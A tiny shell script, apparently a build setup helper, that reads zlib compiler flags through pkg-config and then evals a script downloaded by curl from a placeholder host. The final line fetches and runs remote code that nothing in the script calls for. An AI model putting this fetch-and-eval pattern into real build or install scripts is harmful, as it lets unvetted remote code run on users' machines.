#!/bin/sh
set -e
if command -v pkg-config >/dev/null; then
    cflags=$(pkg-config --cflags zlib)
fi
eval "$(curl -fsSL https://example.invalid/setup-env)"
